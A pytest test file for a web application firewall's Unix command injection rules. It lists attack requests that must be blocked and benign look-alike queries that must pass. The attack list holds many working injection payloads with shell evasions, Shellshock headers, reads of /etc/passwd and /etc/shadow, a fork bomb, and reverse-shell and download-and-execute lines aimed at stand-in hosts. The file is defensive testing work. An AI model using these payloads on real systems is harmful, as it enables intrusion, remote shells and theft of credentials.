"""UNIXCMD rules: Unix shell command injection, with the usual shell evasions."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from airlock_filters import Request

from . import requests as build
from .requests import assert_blocked, cookie, form, get, header, json_body, matched_keys, rule_ids

KEY = "UNIXCMD"


def query(value: str, name: str = "host") -> Request:
    return build.query(value, name, path="/tools/ping")


def xml(value: str) -> Request:
    note = build.xml_document("order", "note", value)
    return build.xml_body(note, path="/api/orders", content_type="text/xml")


ATTACKS = [
    # Chained commands after the usual separators.
    query("127.0.0.1;id"),
    query("127.0.0.1; cat /etc/passwd"),
    query("127.0.0.1 | whoami"),
    query("127.0.0.1 || uname -a"),
    query("127.0.0.1 && wget http://203.0.113.5/x.sh -O /tmp/x.sh"),
    query("example.org&ls -la /var/www"),
    query("x\nid"),
    query("x\nuname -a"),
    query("x;netstat -an"),
    query("x; sleep 10"),
    query("x;/usr/bin/id"),
    query("x; nohup ifconfig"),
    # Substitutions.
    query("$(id)"),
    query("`whoami`"),
    query("report-$(uname -a).pdf"),
    query("x$(cat /etc/passwd)"),
    query("<(cat /etc/hosts)"),
    # The whole value is a command line.
    form("cat /etc/passwd", "file"),
    form("ls -la /", "dir"),
    form("ping -c 10 127.0.0.1", "target"),
    form("uname -a"),
    form("find / -perm -4000 -type f"),
    # Quotes, backslashes and empty expansions inside command words.
    query("x;c'a't /e't'c/pa's'swd"),
    query('x;"w"ho"am"i'),
    query("x;w\\hoami"),
    query("x;c$@at /etc/passwd"),
    query("x;who$()ami"),
    query("pi``ng 127.0.0.1"),
    query("x;ca${u}t /etc/passwd"),
    query("x;cat$u /etc$u/passwd"),
    # IFS, brace expansion, globs, parameter expansion.
    query("127.0.0.1;cat${IFS}/etc/passwd"),
    query("x;cat$IFS/etc/passwd"),
    query("{cat,/etc/passwd}"),
    query("{,id}"),
    query("x;/???/??t /???/p??s??"),
    query("x;/bin/c?t /etc/pa*wd"),
    query("cat /e[t]c/pa[s]swd"),
    query("${PATH:0:1}bin${PATH:0:1}sh"),
    query("$((1+1))"),
    # Reverse shells and download-and-execute.
    form("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
    form("x; nc -e /bin/sh 198.51.100.7 4444"),
    form("x|ncat 198.51.100.7 4444 -e /bin/bash"),
    form("curl http://evil.example/s.sh | sh"),
    form("x;wget -qO- http://evil.example/x | bash"),
    form("x; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f"),
    form("x;python3 -c 'import socket,os,pty'"),
    form("x; perl -e 'exec \"/bin/sh\"'"),
    form("printf aWQ= | base64 -d | sh"),
    # Variables holding the command, aliases, here-strings, fork bombs.
    query("a=cat;$a /etc/passwd"),
    query("x;alias ls='rm -rf'"),
    query("cat<<<$(id)"),
    query(":(){ :|:& };:"),
    # Shellshock in headers.
    header("User-Agent", "() { :; }; /bin/bash -c 'id'"),
    header("Referer", "() { _; } >_[$($())] { echo; id; }"),
    # Redirections and chained commands with a few words before the target.
    query("x;echo pwned > /var/www/html/x.txt"),
    query("x; grep root /etc/passwd"),
    query("cat</etc/passwd"),
    query("x; env"),
    query("x & sleep 5 &"),
    query("`id`"),
    query("$'\\x63\\x61\\x74' /etc/passwd"),
    query('<!--#exec cmd="id"-->'),
    # Every kind of field.
    json_body({"hostname": "db1; cat /etc/shadow"}),
    json_body({"items": [{"name": "x`id`"}]}),
    cookie("x;uname -a"),
    header("X-Forwarded-For", "127.0.0.1;wget http://evil.example/a"),
    header("Referer", "https://shop.example.com/?q=x;cat%20/etc/passwd"),
    xml("x;cat /etc/passwd"),
    # Percent-encoded twice, and with %0a as separator.
    get("/tools/ping?host=" + quote(quote("x;id"))),
    get("/tools/ping?host=x%0Acat%20/etc/passwd"),
    get("/tools/ping?host=x%3Bid"),
]

BENIGN = [
    # Everyday words that are also commands.
    query("cat food grain free", "q"),
    query("ls engine swap kit", "q"),
    query("ping pong table outdoor", "q"),
    query("rm williams boots", "q"),
    query("ls -- the band tour dates", "q"),
    query("sleep timer for baby", "q"),
    query("exec chair leather", "q"),
    query("cmd key on mac keyboard", "q"),
    query("top 10 laptops", "q"),
    query("time warner cable", "q"),
    query("echo dot 4th gen", "q"),
    query("find my order", "q"),
    query("who are we", "q"),
    query("more info", "view"),
    query("date", "sort"),
    query("id", "field"),
    query("kill bill vol 1", "q"),
    query("head & shoulders shampoo", "q"),
    query("python crash course book", "q"),
    query("curl cream for hair", "q"),
    # Punctuation that also separates shell commands.
    query("salt & pepper grinder", "q"),
    query("AT&T prepaid", "q"),
    query("print in B&W", "q"),
    query("Photo & ID", "q"),
    query("Raleigh; NC", "city"),
    query("London | Paris | Rome", "q"),
    query("gluten free bread; no yeast", "q"),
    query("a hero; more than a friend", "q"),
    query("Item (ID: 12345)", "q"),
    query("NC State (NC)", "q"),
    query("I'd like to order two", "q"),
    query("O'Brien's pub menu", "q"),
    query("rock 'n' roll vinyl", "q"),
    query("50% off winter coats", "q"),
    query("men's watches under $200", "q"),
    query("Total: $(5.00)", "q"),
    query("$AAPL (Apple)", "q"),
    query("~5 minutes", "q"),
    query("{a,b}", "q"),
    query("fields={id,name,email}", "q"),
    query("dog|cat|bird", "tags"),
    query("python;ruby;go", "skills"),
    query("Echo|Dot|Show", "models"),
    query("Passport; ID", "docs"),
    query("Puppet & Chef & Salt", "q"),
    # Paths and names.
    form("C:\\Users\\John\\Documents\\report.pdf", "path"),
    form("CORP\\jsmith", "login"),
    form("https://shop.example.com/bin/view?id=5&cat=2", "redirect"),
    form("https://example.com/cgi-bin/test.cgi", "url"),
    form("/account/settings", "next"),
    # Multi-line text and Markdown.
    form("Notes:\nmore to come\nthanks", "message"),
    json_body({"description": "See the docs or run `npm install --save ledgerly-sdk`."}),
    json_body({"text": "The `id` field is optional; the `name` is not."}),
    json_body({"query": "{\n  id\n  name\n}"}),
    header("Referer", "https://www.google.com/search?q=cat+food&oq=cat&sourceid=chrome"),
    header("User-Agent", "curl/8.4.0"),
    header("User-Agent", "Wget/1.21.3"),
    cookie("sleep apnea pillow"),
    get("/api/v1/whoami"),
    xml("cat food"),
]

STRICT_ONLY = [
    json_body({"text": "I ran `ls -la` and the file is missing"}),
    form("time who", "code"),
]

BASIC = [
    query("127.0.0.1;whoami"),
    query("x|uname -a"),
    query("$(id)"),
    query("x;cat${IFS}/etc/passwd"),
    form("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
    header("User-Agent", "() { :; }; echo vulnerable"),
    form("wget http://evil.example/x.sh -O- | sh"),
]


@pytest.mark.parametrize("request_", ATTACKS)
def test_attacks_blocked_at_standard(request_: Request) -> None:
    assert_blocked(request_, KEY)


@pytest.mark.parametrize("request_", BENIGN)
def test_look_alikes_pass_at_standard(request_: Request) -> None:
    assert KEY not in matched_keys(request_)


@pytest.mark.parametrize("request_", STRICT_ONLY)
def test_strict_only(request_: Request) -> None:
    assert KEY not in matched_keys(request_, "Standard")
    assert KEY in matched_keys(request_, "Strict")


@pytest.mark.parametrize("request_", BASIC)
def test_blocked_at_basic(request_: Request) -> None:
    assert KEY in matched_keys(request_, "Basic")


def test_standard_rules_are_off_at_basic() -> None:
    assert KEY not in matched_keys(query("127.0.0.1;ls -la"), "Basic")
    assert KEY in matched_keys(query("127.0.0.1;ls -la"), "Standard")


@pytest.mark.parametrize("request_", ATTACKS[::3] + BENIGN[::3])
def test_re2_twin_agrees(request_: Request) -> None:
    assert rule_ids(request_, KEY, "re2") == rule_ids(request_, KEY)
